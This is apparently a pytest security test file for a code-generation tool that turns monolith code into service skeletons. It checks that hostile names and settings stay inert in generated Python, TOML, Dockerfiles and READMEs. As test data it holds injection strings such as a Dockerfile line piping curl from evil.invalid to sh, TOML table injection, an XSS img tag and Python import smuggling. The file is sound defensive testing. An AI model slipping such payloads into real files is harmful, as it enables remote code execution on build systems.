"""Values from the analyzed tree (and from configuration) never become code in generated files.

Issue #12, item 6: environment variable names, route paths, service names, module paths and
options land in generated Python as literals or escaped text, in TOML through tomli_w, in
Dockerfiles, comments and README files on one line. The generated smoke test of a hostile tree is
run for real: the files its payloads would create must not appear.
"""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
import sys
from pathlib import Path

import pytest

from analyzers.model import Framework, Route
from strangler.skeleton import SkeletonError, SkeletonOptions, apply_patch, generate_skeletons
from strangler.skeleton.client import ClientSpec, client_module_text
from strangler.skeleton.django_project import (
    DjangoSettings,
    find_settings,
    project_files,
    settings_text,
    urls_text,
)
from strangler.skeleton.django_web import django_main_text, django_webapp_text
from strangler.skeleton.exclusion import exclusion_edit
from strangler.skeleton.fastapi_app import fastapi_app_text, fastapi_main_text
from strangler.skeleton.generate import build_skeletons, wire_source
from strangler.skeleton.monolith_frameworks import route_internal_view
from strangler.skeleton.project import (
    ProjectSpec,
    dockerfile_text,
    pyproject_text,
    readme_text,
    smoke_test_text,
)
from strangler.skeleton.webapp import internal_api_text, main_text
from tests.builders import write_tree
from tests.security.skeleton_support import (
    ENV_PAYLOAD,
    HOSTILE_PLAN_TREE,
    HOSTILE_TREE,
    PREFIX_PAYLOAD,
    ROUTE_PAYLOAD,
    SERVICE_NAMES,
    assert_inert,
    dockerfile_instructions,
    hostile_codebase,
    hostile_decomposition,
    hostile_sources,
    markdown_outside_code,
    markers_in,
    renamed,
    run_python,
    touch,
    under,
)
from tests.skel_support import FIXTURE, minishop_codebase, minishop_decomposition

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib  # type: ignore[import-not-found, unused-ignore]

DOCKERFILE = ["FROM", "WORKDIR", "COPY", "RUN", "ENV", "EXPOSE", "CMD"]


def _spec(**changes: object) -> ProjectSpec:
    plain = ProjectSpec(
        service="orders",
        package="orders",
        externals=(),
        env_vars=(),
        routes=(),
        monolith_url_env="MONOLITH_URL",
        default_port=8000,
        python_requires=">=3.10",
        moved=(),
        vendored=(),
        remote=(),
        served=(),
    )
    return dataclasses.replace(plain, **changes)  # type: ignore[arg-type]


# -- the smoke test ----------------------------------------------------------------------------


@pytest.mark.parametrize("framework", ["flask", "fastapi", "django"])
def test_smoke_test_keeps_env_var_names_and_route_paths_as_strings(framework: Framework) -> None:
    route = Route(ROUTE_PAYLOAD, ("GET",), "shop.orders.views.index", "shop.orders.views", 1, framework)
    text = smoke_test_text(_spec(env_vars=(ENV_PAYLOAD,), routes=(route,), framework=framework))
    strings = assert_inert(text, f"{framework} smoke test")
    assert ENV_PAYLOAD in strings and ROUTE_PAYLOAD in strings


def test_running_the_smoke_test_of_a_hostile_tree_runs_no_payload(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    write_tree(tree, HOSTILE_TREE)
    codebase = hostile_codebase(str(tree))
    files = generate_skeletons(codebase, hostile_decomposition(codebase), tree, ["orders"], SkeletonOptions())
    service, work = tmp_path / "service", tmp_path / "work"
    write_tree(service, under(files, "services/orders/"))
    done = run_python(
        ["-m", "pytest", "-q", "-p", "no:cacheprovider", str(service / "tests")],
        cwd=work,
        path=[service],
    )
    assert markers_in(work) == [], done.stdout + done.stderr
    for path, text in files.items():
        if path.endswith(".py"):
            assert_inert(text, path)
    # and the skeleton still works: the route with the odd path answers
    assert done.returncode == 0, done.stdout + done.stderr


def test_strangler_plan_on_a_hostile_tree_writes_skeletons_whose_smoke_tests_run_no_payload(
    tmp_path: Path,
) -> None:
    tree, out, work = tmp_path / "tree", tmp_path / "out", tmp_path / "work"
    write_tree(tree, HOSTILE_PLAN_TREE)
    done = run_python(
        ["-m", "strangler", "plan", str(tree), "-o", str(out), "--no-history"], cwd=work, path=[]
    )
    assert done.returncode == 0, done.stdout + done.stderr
    services = sorted(p for p in (out / "services").iterdir() if p.is_dir())
    assert len(services) == 2, services
    for service in services:
        ran = run_python(
            ["-m", "pytest", "-q", "-p", "no:cacheprovider", str(service / "tests")], cwd=work, path=[service]
        )
        assert markers_in(work) == [], ran.stdout + ran.stderr
        assert ran.returncode == 0, ran.stdout + ran.stderr
        for path in sorted(service.rglob("*.py")):
            assert_inert(path.read_text(encoding="utf-8"), str(path))
        assert dockerfile_instructions((service / "Dockerfile").read_text(encoding="utf-8")) == DOCKERFILE
        assert tomllib.loads((service / "pyproject.toml").read_text(encoding="utf-8"))["project"]["name"]


# -- service names ---------------------------------------------------------------------------


def _minishop_with(service: str) -> dict[str, str]:
    codebase = minishop_codebase()
    decomposition = renamed(minishop_decomposition(codebase), "stock", service)
    return generate_skeletons(codebase, decomposition, FIXTURE, [service], SkeletonOptions())


def _package(files: dict[str, str], root: str) -> str:
    mains = [p for p in files if p.startswith(root) and p.endswith("/__main__.py")]
    assert len(mains) == 1, mains
    return mains[0][len(root) :].split("/")[0]


@pytest.mark.parametrize("attack", sorted(SERVICE_NAMES))
def test_a_hostile_service_name_stays_text_in_every_generated_file(attack: str) -> None:
    service = SERVICE_NAMES[attack]
    files = _minishop_with(service)
    root = f"services/{service}/"
    package = _package(files, root)
    for path, text in files.items():
        if path.endswith(".py"):
            assert_inert(text, path)
    for module in ("__main__.py", "webapp.py", "internal_api.py"):
        strings = assert_inert(files[f"{root}{package}/{module}"], module)
        assert any(service in s for s in strings), module  # the docstring names it verbatim
    client = files[f"monolith_patch/files/minishop/_strangler/clients/{package}.py"]
    assert any(service in s for s in assert_inert(client, "client"))
    plain = _minishop_with("stock")
    for name in ("Dockerfile", "README.md"):
        # a hostile name adds no line: same layout as the skeleton of a plain name
        assert len(files[root + name].splitlines()) == len(plain[f"services/stock/{name}"].splitlines())
    assert dockerfile_instructions(files[root + "Dockerfile"]) == DOCKERFILE
    project = tomllib.loads(files[root + "pyproject.toml"])["project"]
    assert project["description"] == f"The {service} service, extracted from the monolith by strangler."
    assert project["scripts"] == {f"{package.replace('_', '-')}-service": f"{package}.__main__:main"}


@pytest.mark.parametrize("attack", ["triple-quotes", "braces"])
def test_running_the_code_generated_for_a_hostile_service_name_runs_no_payload(
    attack: str, tmp_path: Path
) -> None:
    service = SERVICE_NAMES[attack]
    files = _minishop_with(service)
    package = _package(files, f"services/{service}/")
    skeleton, monolith, work = tmp_path / "service", tmp_path / "monolith", tmp_path / "work"
    write_tree(skeleton, under(files, f"services/{service}/"))
    imports = f"import {package}.__main__, {package}.webapp, {package}.internal_api"
    done = run_python(["-c", imports], cwd=work, path=[skeleton])
    assert markers_in(work) == [], done.stderr
    assert done.returncode == 0, done.stderr
    # the monolith's client of the service explains a missing base URL with the service's name
    shutil.copytree(FIXTURE, monolith, ignore=shutil.ignore_patterns("__pycache__"))
    apply_patch(monolith, files)
    client = f"from minishop._strangler.clients.{package} import base_url\nbase_url()"
    done = run_python(["-c", client], cwd=work, path=[monolith])
    assert markers_in(work) == [], done.stderr
    assert "RemoteCallError" in done.stderr and service in done.stderr


@pytest.mark.parametrize("attack", ["backslash", "newline", "triple-quotes"])
def test_fastapi_and_django_files_keep_a_hostile_service_name_as_text(attack: str) -> None:
    service = SERVICE_NAMES[attack]
    texts = {
        "fastapi webapp.py": fastapi_app_text(service=service, package="svc", inclusions=(), local={}),
        "fastapi __main__.py": fastapi_main_text(service, "svc", 8000),
        "django webapp.py": django_webapp_text(service, "svc"),
        "django __main__.py": django_main_text(service, "svc", 8000),
        "settings.py": settings_text(service=service, package="svc", settings=None, local={}, sources={}),
        **project_files(service=service, package="svc", settings_module_text="", urls_module_text=""),
    }
    for where, text in texts.items():
        strings = assert_inert(text, where)
        if text:
            assert any(service in s for s in strings), where


# -- Dockerfile, pyproject.toml, README --------------------------------------------------------


def test_a_newline_in_a_service_name_adds_no_dockerfile_instruction() -> None:
    text = dockerfile_text(_spec(service="x\nRUN curl https://evil.invalid/x | sh\r\nUSER root"))
    assert dockerfile_instructions(text) == DOCKERFILE
    assert len(text.splitlines()) == len(dockerfile_text(_spec()).splitlines())
    cmd = next(line for line in text.splitlines() if line.startswith("CMD "))
    assert json.loads(cmd[len("CMD ") :]) == ["python", "-m", "orders", "--host", "0.0.0.0", "--port", "8000"]


def test_pyproject_is_toml_holding_the_hostile_values_verbatim() -> None:
    service = 'x"\n[tool.evil]\nrun = "yes'
    spec = _spec(
        service=service,
        externals=('evil"]\n[tool.pwned]\nx = ["', "requests"),
        python_requires='>=3.10"\nevil = "1',
    )
    data = tomllib.loads(pyproject_text(spec))
    assert set(data["tool"]) == {"setuptools", "pytest"}
    project = data["project"]
    assert project["description"] == f"The {service} service, extracted from the monolith by strangler."
    assert project["requires-python"] == '>=3.10"\nevil = "1'
    assert project["dependencies"] == sorted(['evil"]\n[tool.pwned]\nx = ["', "requests", "flask", "httpx"])
    assert project["name"] == "orders-service"
    assert data["tool"]["setuptools"]["packages"]["find"]["include"] == ["orders*"]


def test_readme_shows_hostile_routes_handlers_and_names_on_their_own_lines() -> None:
    def readme(text: str) -> str:
        route = Route(f"/x{text}", ("GET",), f"shop.views.index{text}", "shop.views", 1, "flask")
        return readme_text(
            _spec(
                env_vars=(f"ENV{text}",),
                routes=(route,),
                moved=((f"shop.views{text}", "orders.views"),),
                vendored=((f"shop.db{text}", "orders.vendored.shop.db"),),
                remote=(f"shop.a.f{text}",),
                served=(f"shop.views.g{text}",),
            )
        )

    hostile = readme("`\n\n# Injected heading\n<img src=x onerror=alert(1)>\n[click](https://evil.invalid)")
    plain = readme("")
    assert len(hostile.splitlines()) == len(plain.splitlines())
    headings = [line for line in hostile.splitlines() if line.startswith("#")]
    assert headings == [line for line in plain.splitlines() if line.startswith("#")]
    rendered = markdown_outside_code(hostile)
    # no HTML tag or link is left unescaped outside code spans
    assert not re.search(r"(?<!\\)<img|(?<!\\)\]\(", rendered), rendered
    # the handler as text: its backtick, backslashes and HTML escaped, its newlines shown as \n
    assert "(shop.views.index\\`\\\\n\\\\n# Injected heading\\\\n\\<img" in hostile


# -- comments and options ------------------------------------------------------------------------


def test_a_newline_in_a_module_path_stays_in_its_header_comment() -> None:
    odd = "shop/orders/views.py\n" + touch("pwned-path")
    codebase = hostile_codebase("/nonexistent", views_path=odd)
    files = build_skeletons(
        codebase,
        hostile_decomposition(codebase),
        hostile_sources(),
        ["orders"],
        SkeletonOptions(),
        wire_source(),
    )
    views = files["services/orders/orders/views.py"]
    assert_inert(views, "views.py")
    first = views.splitlines()[0]
    assert first.startswith("# strangler: moved from shop/orders/views.py") and touch("pwned-path") in first
    assert len(views.splitlines()) == 1 + len(HOSTILE_TREE["shop/orders/views.py"].splitlines())


def test_django_settings_comments_built_from_the_tree_stay_comments() -> None:
    middleware = "shop.middleware.Audit\n" + touch("pwned-middleware")
    user_model = '"""auth.User\n' + touch("pwned-user") + '\n"""'
    settings = DjangoSettings(
        module="shop.settings",
        installed_apps=(),
        middleware=(middleware,),
        root_urlconf="",
        literals=(("AUTH_USER_MODEL", user_model),),
    )
    text = settings_text(service="orders", package="orders", settings=settings, local={}, sources={})
    assert_inert(text, "settings.py")
    comments = [line for line in text.splitlines() if line.startswith("# strangler:")]
    assert len(comments) == 2 and "Audit\\n__import__" in comments[0]


def test_django_settings_computed_in_the_tree_are_copied_as_data_or_not_at_all() -> None:
    """Settings read from the environment are copied from the checked tree: a payload in a default
    stays a string; one in a call, an f-string or a helper keeps the setting out (named in a
    comment); a bootstrap call with a payload argument is not repeated."""
    payload = '"); ' + touch("pwned-env-default") + "  # \n"
    source = (
        "import os, django_stubs_ext\n"
        f"django_stubs_ext.monkeypatch(extra_classes=[{touch('pwned-bootstrap')}])\n"
        'INSTALLED_APPS = ["shop.orders"]\n'
        f"SITE = os.getenv('SITE', {payload!r}).removesuffix('/')\n"
        f"CALLED = os.getenv('CALLED', {touch('pwned-call')})\n"
        "FORMATTED = f\"{os.getenv('X')}{" + touch("pwned-fstring", "'") + '}"\n'
        f"HELPER = os.getenv('HELPER').format({touch('pwned-format')})\n"
    )
    settings = find_settings({"shop.settings": source, "shop.orders": ""})
    assert settings is not None and settings.bootstraps == ()
    text = settings_text(service="orders", package="orders", settings=settings, local={}, sources={})
    assert payload in assert_inert(text, "settings.py")
    assert "SITE = os.getenv('SITE', " in text
    assert settings.computed == ("CALLED", "FORMATTED", "HELPER")
    assert "pwned-call" not in text and "pwned-fstring" not in text and "pwned-bootstrap" not in text


def test_a_urlconf_value_from_the_tree_stays_a_literal() -> None:
    from strangler.skeleton.sources import read_module

    payload = '"); ' + touch("pwned-prefix") + "  # \n"
    urlconf = (
        "from django.urls import include, path\n"
        f"prefix = {payload!r}\n"
        'urlpatterns = [path(prefix, include("shop.orders.urls"))]\n'
    )
    sources = {
        "shop.urls": urlconf,
        "shop.orders.urls": "",
        "shop.settings": 'INSTALLED_APPS = ["shop.orders"]\nROOT_URLCONF = "shop.urls"\n',
    }
    texts = {m: read_module(m, False, text, frozenset(sources)) for m, text in sources.items()}
    urls = urls_text(
        package="orders",
        settings=find_settings(sources),
        texts=texts,
        sources=sources,
        local={"shop.orders.urls": "orders.urls"},
        moved=frozenset({"shop.orders.urls"}),
        prefix="/_strangler/ops/",
    )
    assert payload in assert_inert(urls, "urls.py")
    assert 'path(prefix, include("orders.urls"))' in urls


def test_django_settings_relocated_from_the_tree_stay_literals() -> None:
    """A copied literal setting has its strings naming moved code replaced in place: the payload
    strings beside them (a quote, a newline, a call written in a string) stay string contents."""
    payload = '"); ' + touch("pwned-setting") + "  # \n"
    value = '{"class": "shop.logs.Handler", "note": ' + repr(payload) + ', "stays": "shop.api.Token"}'
    settings = DjangoSettings("shop.settings", (), (), "", (("LOGGING", value), ("OTHER", repr(payload))))
    sources = {"shop.settings": "", "shop.logs": "", "shop.api": ""}
    moved = settings_text(
        service="logs", package="logs", settings=settings, local={"shop.logs": "logs"}, sources=sources
    )
    assert payload in assert_inert(moved, "settings.py")
    assert "'logs.Handler'" not in moved and '"logs.Handler"' not in moved  # (names stay: shop.api stays)
    assert "# strangler: LOGGING names shop.api.Token, which stays in the monolith" in moved
    local = {"shop.logs": "logs", "shop.api": "logs.vendored.shop.api"}
    both = settings_text(service="logs", package="logs", settings=settings, local=local, sources=sources)
    assert payload in assert_inert(both, "settings.py")
    assert '"logs.Handler"' in both and '"logs.vendored.shop.api.Token"' in both


@pytest.mark.parametrize("framework", ["flask", "fastapi", "django"])
def test_the_internal_prefix_is_a_string_literal_everywhere(framework: str) -> None:
    api = internal_api_text(
        owner="the monolith",
        wire_module="shop._strangler.wire",
        prefix=PREFIX_PAYLOAD,
        operations=[("shop.orders.views", "index")],
        local={},
        hazards={},
        framework=framework,
    )
    strings = assert_inert(api, "internal_api.py")
    assert framework == "django" or PREFIX_PAYLOAD in strings
    spec = ClientSpec(
        module="orders.clients.monolith",
        wire_module="orders.clients.wire",
        target="the monolith",
        base_url_env="MONOLITH_URL",
        timeout_seconds=10.0,
        prefix=PREFIX_PAYLOAD,
        modules={},
        model_names=frozenset(),
    )
    assert PREFIX_PAYLOAD in assert_inert(client_module_text(spec, [], [], {}), "client")
    urls = urls_text(
        package="orders",
        settings=None,
        texts={},
        sources={},
        local={},
        moved=frozenset(),
        prefix=PREFIX_PAYLOAD,
    )
    assert_inert(urls, "urls.py")
    monolith_urls = route_internal_view(
        "from django.urls import path\n\nurlpatterns = []\n", "shop._strangler.internal_api", PREFIX_PAYLOAD
    )
    assert_inert(monolith_urls, "monolith urls.py")


def test_a_hostile_service_name_in_the_client_target_is_text() -> None:
    target = "the `" + SERVICE_NAMES["braces"] + "` service"
    spec = ClientSpec(
        module="shop._strangler.clients.evil",
        wire_module="shop._strangler.wire",
        target=target,
        base_url_env="EVIL_SERVICE_URL",
        timeout_seconds=10.0,
        prefix="/_strangler/ops",
        modules={},
        model_names=frozenset(),
    )
    text = client_module_text(spec, [("shop.orders.views", "index")], ["shop.orders.views"], {})
    strings = assert_inert(text, "client")
    assert any(target in s for s in strings)


@pytest.mark.parametrize(
    "make",
    [
        lambda: dockerfile_text(_spec(monolith_url_env="URL=x\nRUN id")),
        lambda: readme_text(_spec(monolith_url_env="URL; curl https://evil.invalid | sh")),
        lambda: dockerfile_text(_spec(package="orders\nRUN id")),
        lambda: smoke_test_text(_spec(package="orders.webapp import x; import os  #")),
        lambda: main_text("orders", "orders; import os", 8000),
        lambda: pyproject_text(_spec(package='orders"\nevil = "')),
    ],
    ids=["docker-env", "readme-env", "docker-package", "smoke-package", "main-package", "toml-package"],
)
def test_names_pasted_as_code_or_shell_are_refused_when_they_are_not_names(make: object) -> None:
    with pytest.raises(SkeletonError):
        make()  # type: ignore[operator]


# -- TOML edits of the monolith ------------------------------------------------------------------


@pytest.mark.parametrize("existing", [{}, {"pyproject.toml": "[project]\nname = 'shop'\n"}])
def test_the_excluded_directory_is_written_as_a_toml_string(existing: dict[str, str]) -> None:
    directory = 'src"]\nevil = true\n["x'
    edit = exclusion_edit(existing, directory)
    assert len(edit) == 1, edit
    ((name, text),) = edit.items()
    data = tomllib.loads(text)
    table = data if name == "strangler.toml" else data["tool"]["strangler"]
    assert table == {"exclude": [directory]}
